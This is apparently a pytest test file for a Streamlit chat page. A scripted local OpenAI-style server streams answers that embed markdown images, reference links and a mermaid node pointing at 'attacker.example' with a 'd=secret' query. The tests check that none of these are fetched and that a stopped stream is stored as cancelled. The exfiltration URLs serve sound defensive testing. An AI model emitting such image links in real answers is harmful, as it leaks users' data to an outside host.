"""The chat page with a remote model that writes what we choose (a real OpenAI-protocol
server on 127.0.0.1): its answer is shown without anything the browser would fetch, while
streaming and afterwards, and an answer stopped mid-stream is stored as ``cancelled``."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from streamlit.runtime.scriptrunner_utils.script_run_context import (
    SCRIPT_RUN_CONTEXT_ATTR_NAME,
)
from streamlit.testing.v1 import AppTest

from llmops.config import get_settings
from llmops.releases import PRODUCTION, ModelConfig, ReleaseConfig, create_release, set_label
from llmops.store.db import Database
from llmops.store.queries import get_trace
from llmops.ui.deps import runtime

from ..llm.openai_server import OpenAIServer
from ..test_markdown import fetches

pytestmark = pytest.mark.ui

EVIL = "http://attacker.example/x.png?d=secret"
HOLD = object()  # in a script: stop here until ``resume`` is set


class ScriptedServer(OpenAIServer):
    """The OpenAI-protocol test server, streaming the chunks of ``script`` as its answer."""

    def __init__(self, script: list[Any]) -> None:
        super().__init__()
        self.script = script
        self.held = threading.Event()  # set when the stream reaches HOLD
        self.resume = threading.Event()
        server = self
        base: Any = self.httpd.RequestHandlerClass

        class Handler(base):  # type: ignore[misc, valid-type]
            def _stream(self, model: str, include_usage: bool) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Connection", "close")
                self.end_headers()
                head = {
                    "id": "chatcmpl-s",
                    "object": "chat.completion.chunk",
                    "created": int(time.time()),
                    "model": model,
                }
                self.close_connection = True
                try:
                    self._event({**head, "choices": [{"index": 0, "delta": {"role": "assistant"}}]})
                    for part in server.script:
                        if part is HOLD:
                            server.held.set()
                            server.resume.wait(30)
                            continue
                        delta = {"content": part}
                        self._event({**head, "choices": [{"index": 0, "delta": delta}]})
                    stop = {"index": 0, "delta": {}, "finish_reason": "stop"}
                    self._event({**head, "choices": [stop]})
                    self._event("[DONE]")
                except OSError:
                    return  # the client went away (an interrupted answer)

        self.httpd.RequestHandlerClass = Handler


@pytest.fixture
def serve(app_home: Any) -> Iterator[Any]:
    """``serve(script)``: the production release answers with ``script``'s chunks."""
    servers: list[ScriptedServer] = []

    def start(script: list[Any]) -> ScriptedServer:
        srv = ScriptedServer(script).__enter__()
        servers.append(srv)
        model = ModelConfig(
            provider="openai-compatible",
            name="scripted",
            base_url=srv.base_url,
            max_retries=0,
            timeout_s=30,
        )
        db = Database(get_settings().db_url)
        try:
            release = create_release(db, ReleaseConfig(model=model), name="scripted")
            set_label(db, PRODUCTION, release.id)
        finally:
            db.dispose()
        return srv

    yield start
    for srv in servers:
        srv.resume.set()
        srv.__exit__(None, None, None)


def _markdown_elements(at: AppTest) -> list[Any]:
    return [*at.markdown, *at.caption]


def _assert_nothing_fetches(at: AppTest) -> None:
    elements = _markdown_elements(at)
    assert elements
    for el in elements:
        assert fetches(el.value) == [], el.value
        assert not el.proto.allow_html, el.value


ANSWER = [
    "Canary releases send a share of traffic to a new release [1]. Here is a chart",
    "!",  # the "!" and the "[" arrive in different chunks
    "[chart](",
    EVIL,
    "). And a reference one: ![a][r] with :material/home:.\n\n[r]: ",
    EVIL,
    '\n\n```mermaid\nflowchart TD\n  A@{ img: "' + EVIL + '" }\n```\n',
]


def test_a_remote_image_in_the_answer_is_shown_as_a_link(app: AppTest, serve: Any) -> None:
    serve(ANSWER)
    app.run()
    app.chat_input[0].set_value("What is a canary release?").run()
    assert not app.exception, app.exception
    stored = app.session_state["chat_messages"][1]
    assert stored["status"] == "ok"
    assert fetches(stored["content"]), "the model's answer itself is dangerous"
    _assert_nothing_fetches(app)
    shown = app.chat_message[1].markdown[0].value
    assert f"Here is a chart[image: chart]({EVIL})" in shown
    assert "[image: a][r]" in shown and "```text mermaid" in shown
    assert any(e.label.startswith("Sources") for e in app.expander)


def _stop_the_script_run() -> None:
    """What the Stop button does: ask the running script to stop at its next st call."""
    for thread in threading.enumerate():
        ctx = getattr(thread, SCRIPT_RUN_CONTEXT_ATTR_NAME, None)
        if ctx is not None and ctx.script_requests is not None:
            ctx.script_requests.request_stop()


def test_stopping_mid_answer_stores_a_cancelled_turn_at_once(app: AppTest, serve: Any) -> None:
    srv = serve([f"First sentence with ![x]({EVIL}). ", HOLD, "Second sentence. ", "Third. "])

    def stop_when_held() -> None:
        if srv.held.wait(60):
            _stop_the_script_run()
        srv.resume.set()

    app.run()
    watcher = threading.Thread(target=stop_when_held, daemon=True)
    watcher.start()
    app.chat_input[0].set_value("What is a canary release?").run()
    watcher.join()
    assert not app.exception, app.exception

    _assert_nothing_fetches(app)  # what the stopped run had streamed

    turn = app.session_state["chat_messages"][1]
    assert turn["status"] == "cancelled"
    assert turn["content"].startswith("First sentence with ![x]")
    runtime().tracer.flush()  # nothing else: the stream was closed when the run stopped
    detail = get_trace(runtime().db, turn["trace_id"])
    assert detail.trace["status"] == "cancelled"
    assert detail.trace["output"].startswith("First sentence")
    assert {s["kind"] for s in detail.spans} >= {"retriever", "llm"}

    # the next run shows the interrupted turn from the conversation
    app.run()
    assert not app.exception, app.exception
    assert "First sentence with [image: x]" in app.chat_message[1].markdown[0].value
    assert "The answer was interrupted." in [c.value for c in app.caption]
    _assert_nothing_fetches(app)


def _split_stream_script() -> None:
    from collections.abc import Generator

    from llmops.chat import ChatStream, Turn
    from llmops.ui.chat import stream_answer

    def chunks(stream: ChatStream) -> Generator[str, None, None]:
        stream.turn = Turn(trace_id="t" * 32, answer="")
        yield from ["See", "!", "[", "x](http://attacker.example/p.png", ")", " end"]

    stream_answer(ChatStream(chunks))


def test_streamed_text_is_sanitised_as_a_whole(app_home: Any) -> None:
    at = AppTest.from_function(_split_stream_script, default_timeout=30).run()
    assert not at.exception, at.exception
    assert [m.value for m in at.markdown] == ["See[image: x](http://attacker.example/p.png) end"]
